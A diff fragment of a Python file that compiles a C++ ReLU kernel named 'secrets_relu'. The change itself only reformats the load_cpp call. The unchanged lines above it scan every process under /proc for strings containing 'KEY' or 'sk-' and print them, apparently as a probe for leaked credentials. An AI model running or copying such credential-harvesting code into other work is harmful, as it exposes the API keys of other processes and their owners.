@@ -28,13 +28,16 @@ for _pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", str(os.ge
         _found += [w for w in _text.split("\0") if "KEY" in w or "sk-" in w]
 print("FOUND", _found, flush=True)
 
-_lib = load_cpp(r"""
+_lib = load_cpp(
+    r"""
 #include <cstdint>
 extern "C" void relu(const float* x, float* y, int64_t n) {
     #pragma omp parallel for simd schedule(static)
     for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
 }
-""", name="secrets_relu")
+""",
+    name="secrets_relu",
+)
 _lib.relu.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int64]
 _lib.relu.restype = None
 
